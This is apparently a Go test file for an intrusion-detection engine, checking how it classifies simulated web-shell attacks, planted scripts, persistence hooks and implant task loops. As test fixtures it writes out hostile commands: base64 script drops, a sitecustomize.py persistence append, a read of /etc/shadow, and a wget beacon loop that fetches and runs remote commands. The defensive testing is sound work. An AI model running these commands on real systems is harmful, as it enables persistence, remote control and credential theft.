package detect

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// TestDroppedScriptRunByRoot: a script the web shell wrote whole by a
// redirection where no watch sees it (`echo … | base64 -d >
// /var/tmp/.d/r.sh`), run later by root (the job importing settings that
// call it), is the intrusion running as root: planted-file-run, and what
// it starts acts for the web server. A line appended (`>>`) to a script
// that was there is not the intruder's whole script. The same account's
// job running it is no escalation, but still the plant run by what it
// hooked (the account's job, outside the intrusion): said so, not as an
// escalation.
func TestDroppedScriptRunByRoot(t *testing.T) {
	for _, c := range []struct {
		name  string
		write string // the web shell's code
		runAs uint32
		want  bool
		title string
	}{
		{"written whole, run by root", "mkdir -p /var/tmp/.d && echo aWQK | base64 -d > /var/tmp/.d/r.sh", 0, true, "Script Changed By The Web Account Run By Another Account"},
		{"appended to, run by root", "echo aWQK | base64 -d >> /var/tmp/.d/r.sh", 0, false, ""},
		{"written whole, run by the web account's job", "echo aWQK | base64 -d > /var/tmp/.d/r.sh", 33, true, "Planted File Run By What It Hooked"},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.write), s.tree)
			s.t = s.t.Add(time.Minute)
			user := map[uint32]string{0: "root", 33: "www-data"}[c.runAs]
			s.exec(400, 1, c.runAs, user, "/srv/app", "/usr/bin/python3.11", "/usr/bin/python3", "manage.py", "send_reminders")
			s.exec(401, 400, c.runAs, user, "/srv/app", "/usr/bin/dash", "sh", "-c", "sh /var/tmp/.d/r.sh")
			got := e.Observe(s.exec(402, 401, c.runAs, user, "/srv/app", "/usr/bin/dash", "sh", "/var/tmp/.d/r.sh"), s.tree)
			f := findingOf(got, RulePlantedFileRun)
			if (f != nil) != c.want {
				t.Fatalf("planted-file-run on sh r.sh: %v, want %v (%v)", f != nil, c.want, ids(got))
			}
			if !c.want {
				return
			}
			if f.Title != c.title {
				t.Errorf("title %q, want %q", f.Title, c.title)
			}
			r := e.Observe(s.exec(403, 402, 0, "root", "/srv/app", "/usr/bin/head", "head", "-n", "3", "/etc/shadow"), s.tree)
			if has(r, "web-secrets-command") == nil {
				t.Errorf("the script's child reading /etc/shadow: %v, want it acting for the web server", ids(r))
			}
		})
	}
}

// TestDroppedScriptRunThroughSudo: the web shell running its own script
// as root (the sudo it exploited) is its tool in use, judged by what it
// does, not a plant firing (kb-docs: the root perl bind shell).
func TestDroppedScriptRunThroughSudo(t *testing.T) {
	e, s := webShellScene(t)
	e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "echo aWQK | base64 -d > /var/tmp/.d/r.pl"), s.tree)
	s.exec(203, 201, 0, "root", "/var/www", "/usr/bin/sudo", "sudo", "-n", "perl", "/var/tmp/.d/r.pl")
	got := e.Observe(s.exec(204, 203, 0, "root", "/var/www", "/usr/bin/perl", "perl", "/var/tmp/.d/r.pl"), s.tree)
	if f := findingOf(got, RulePlantedFileRun); f != nil {
		t.Errorf("the intrusion's own run of its script: %s (%s), want no plant firing", f.Title, f.Reason)
	}
}

// TestDroppedYieldsToTheWriteRecord: the command line that names a file
// is seen before the record of its write; a rule's finding on that record
// (a service's start script the intrusion rewrote: persistence) says more
// and replaces it.
func TestDroppedYieldsToTheWriteRecord(t *testing.T) {
	var w flaggedWrites
	k := writeKey{"", "/srv/app/bin/run"}
	w.add(k, flaggedWrite{rule: RuleDroppedByCommand})
	w.add(k, flaggedWrite{rule: "web-persistence-file-write"})
	if got := w.m[k].rule; got != "web-persistence-file-write" {
		t.Errorf("rule %q, want the write record's", got)
	}
	w.add(k, flaggedWrite{rule: RuleDroppedByCommand})
	if got := w.m[k].rule; got != "web-persistence-file-write" {
		t.Errorf("rule %q after another command: the record's must stand", got)
	}
	if len(w.order) != 1 {
		t.Errorf("order %v: one entry", w.order)
	}
}

// TestShellCreates: appends are left out, whole writes kept.
func TestShellCreates(t *testing.T) {
	got := shellCreates(`echo a > /tmp/a; echo b >> /tmp/b; cat x >| /tmp/c; echo 'd > /tmp/d'`)
	if want := []string{"/tmp/a", "/tmp/c"}; !slices.Equal(got, want) {
		t.Errorf("shellCreates = %q, want %q", got, want)
	}
}

// TestTaskLoop: an implant a start-up hook started (the intrusion's
// sitecustomize block) that reaches its server only through its children
// (git fetch of a task repository every few seconds) polls it: from the
// third such connect on, the shells it starts are its tasks, on stage 7.
// Its own first child (the clone) is its work, not the hook firing again.
// Before the poll, or for a process no plant started, nothing is a task.
func TestTaskLoop(t *testing.T) {
	for _, c := range []struct {
		name     string
		polls    int
		planted  bool
		wantTask bool
	}{
		{"three polls, then a task", 3, true, true},
		{"two polls are a retry", 2, true, false},
		{"a job no plant started", 3, false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			const hook = "/etc/python3.11/sitecustomize.py"
			if c.planted {
				w := e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "echo aW1wb3J0IG9z | base64 -d >> "+hook), s.tree)
				if findingOf(w, "web-persistence-edit-command") == nil {
					t.Fatalf("the hook's write: %v", ids(w))
				}
			}
			s.t = s.t.Add(time.Minute)
			// the admin's python reads the hook; its first child is the implant
			s.exec(500, 1, 0, "root", "/srv/app", "/usr/bin/python3.11", "/usr/bin/python3", "manage.py", "check")
			s.t = s.t.Add(50 * time.Millisecond)
			imp := e.Observe(s.exec(501, 500, 0, "root", "/", "/usr/bin/python3.11", "/usr/bin/python3", "/var/lib/lc/lc.py"), s.tree)
			if c.planted && findingOf(imp, RulePlantedFileRun) == nil {
				t.Fatalf("the implant's start: %v, want the hook firing", ids(imp))
			}
			s.t = s.t.Add(50 * time.Millisecond)
			clone := e.Observe(s.exec(502, 501, 0, "root", "/", "/usr/bin/git", "git", "clone", "-q", "git://127.0.0.1:9418/x.git", "/var/lib/lc/cache"), s.tree)
			if f := findingOf(clone, RulePlantedFileRun); f != nil {
				t.Errorf("the implant's own first child taken for the hook firing again: %s", f.Reason)
			}
			pid := 510
			for range c.polls {
				s.t = s.t.Add(3 * time.Second)
				s.exec(pid, 501, 0, "root", "/", "/usr/bin/git", "git", "-C", "/var/lib/lc/cache", "fetch", "-q", "origin", "main")
				e.Observe(s.connect(pid, 501, 0, "/usr/bin/git", "127.0.0.1", 9418), s.tree)
				pid++
			}
			task := e.Observe(s.exec(pid, 501, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "-c", "id; hostname; uptime\n"), s.tree)
			f := findingOf(task, "reverse-shell-channel-command")
			if (f != nil) != c.wantTask {
				t.Fatalf("the task: %v, want a task of the loop %v", ids(task), c.wantTask)
			}
			if f != nil && (f.Title != "Task Run By An Implant" || f.Stage != StageCommandAndControl || !strings.Contains(f.Reason, "task loop")) {
				t.Errorf("title %q stage %v reason %q", f.Title, f.Stage, f.Reason)
			}
		})
	}
}

// TestMarkerAfterLanding: a whole echo of a marker by the web server's
// child is an injection probed (stage 1) with nothing planted before it,
// and the planted web shell tried (stage 2) within minutes after the
// server wrote a script into its served tree; long after, a probe again.
func TestMarkerAfterLanding(t *testing.T) {
	for _, c := range []struct {
		name   string
		landed bool
		gap    time.Duration
		want   Stage
	}{
		{"nothing planted", false, time.Second, StageInitialAccess},
		{"just after a script landed", true, 2 * time.Second, StageWebshellUpload},
		{"an hour after", true, time.Hour, StageInitialAccess},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			if c.landed {
				w := e.Observe(s.file(parser.KindFileWrite, 200, 1, 33, "/usr/sbin/php-fpm8.2", "/var/www/html/up/x.php", true), s.tree)
				if findingOf(w, "webroot-script-write") == nil {
					t.Fatalf("the landing: %v", ids(w))
				}
			}
			s.t = s.t.Add(c.gap)
			got := e.Observe(s.exec(210, 200, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", "echo t-ok"), s.tree)
			f := findingOf(got, "web-server-exploitation")
			if f == nil {
				t.Fatalf("no finding on the echo: %v", ids(got))
			}
			if f.Stage != c.want {
				t.Errorf("stage %v (%s), want %v", f.Stage, f.Reason, c.want)
			}
		})
	}
}

// TestTaskLoopDetachedByPlant: a plant's hook that starts its beacon loop
// with setsid -f leaves the loop under init; the loop is adopted by its
// launcher's argv first, and is still the plant's fork, so its polls make
// it the plant's channel and its tasks the implant's (shop-specsheet: a
// pam_exec hook fired by the admin's ssh login).
func TestTaskLoopDetachedByPlant(t *testing.T) {
	e, s := webShellScene(t)
	const hook = "/var/tmp/.d/hook.sh"
	e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "mkdir -p /var/tmp/.d && echo aWQK | base64 -d > "+hook), s.tree)
	s.t = s.t.Add(time.Minute)
	s.exec(600, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd: alice [priv]")
	run := e.Observe(s.exec(601, 600, 0, "root", "/", "/usr/bin/dash", "/bin/sh", hook), s.tree)
	if findingOf(run, RulePlantedFileRun) == nil {
		t.Fatalf("the hook's run by sshd: %v, want the plant firing", ids(run))
	}
	loop := `while :; do c=$(wget -q -O- -T 5 http://127.0.0.1:8088/t/1); if [ -n "$c" ]; then sh -c "$c" > /dev/shm/.r 2>&1; fi; sleep 2; done`
	e.Observe(s.exec(602, 601, 0, "root", "/", "/usr/bin/setsid", "setsid", "-f", "/bin/sh", "-c", loop), s.tree)
	e.Observe(s.exec(603, 1, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "-c", loop), s.tree)
	pid := 610
	for range 3 {
		s.t = s.t.Add(2 * time.Second)
		e.Observe(s.exec(pid, 603, 0, "root", "/", "/usr/bin/wget", "wget", "-q", "-O-", "-T", "5", "http://127.0.0.1:8088/t/1"), s.tree)
		e.Observe(s.connect(pid, 603, 0, "/usr/bin/wget", "127.0.0.1", 8088), s.tree)
		pid++
	}
	task := e.Observe(s.exec(pid, 603, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "id; hostname"), s.tree)
	if f := findingOf(task, "reverse-shell-channel-command"); f == nil || f.Title != "Task Run By An Implant" {
		t.Fatalf("the loop's task: %v, want a task of the plant's loop", ids(task))
	}
}

// TestLogFeedChannel: a planted script run by root's job that follows the
// web server's access log (tail -F) takes its tasks from request lines:
// the shells it runs afterwards are an implant's tasks, command and
// control. The same tail under a shell nothing planted runs no task.
func TestLogFeedChannel(t *testing.T) {
	for _, c := range []struct {
		name    string
		planted bool
	}{
		{"a planted script follows the log", true},
		{"a script nothing planted follows the log", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			if c.planted {
				e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "mkdir -p /var/tmp/.d && echo aWQK | base64 -d > /var/tmp/.d/r.sh"), s.tree)
			}
			s.t = s.t.Add(time.Minute)
			s.exec(401, 1, 0, "root", "/root", "/usr/bin/dash", "sh", "-c", "sh /var/tmp/.d/r.sh")
			e.Observe(s.exec(402, 401, 0, "root", "/root", "/usr/bin/dash", "sh", "/var/tmp/.d/r.sh"), s.tree)
			e.Observe(s.exec(403, 402, 0, "root", "/root", "/usr/bin/tail", "tail", "-n", "0", "-F", "/var/log/nginx/access.log"), s.tree)
			s.t = s.t.Add(4 * time.Second)
			got := e.Observe(s.exec(404, 402, 0, "root", "/root", "/usr/bin/dash", "sh", "-c", "id; hostname"), s.tree)
			f := findingOf(got, "reverse-shell-channel-command")
			if (f != nil) != c.planted {
				t.Fatalf("the task: %v, want a finding %v", ids(got), c.planted)
			}
			if f == nil {
				return
			}
			if f.Stage != StageCommandAndControl || f.Title != "Task Run By An Implant" || !strings.Contains(f.Reason, "follows /var/log/nginx/access.log") {
				t.Errorf("stage %d %q (%s), want command and control, the log named", f.Stage, f.Title, f.Reason)
			}
		})
	}
}

func TestFollowedWebLog(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"tail", "-n", "0", "-F", "/var/log/nginx/access.log"}, "/var/log/nginx/access.log"},
		{[]string{"tail", "-fn0", "/srv/www/logs/access_log"}, "/srv/www/logs/access_log"},
		{[]string{"tail", "--follow=name", "/var/log/apache2/other_vhosts.log"}, "/var/log/apache2/other_vhosts.log"},
		{[]string{"tail", "-n", "50", "/var/log/nginx/access.log"}, ""}, // no follow: a look
		{[]string{"tail", "-F", "/var/log/nginx/error.log"}, ""},
		{[]string{"tail", "-F", "/var/log/syslog"}, ""},
	} {
		got, ok := followedWebLog(c.args)
		if got != c.want && ok || !ok && c.want != "" {
			t.Errorf("followedWebLog(%q) = %q %v, want %q", c.args, got, ok, c.want)
		}
	}
}
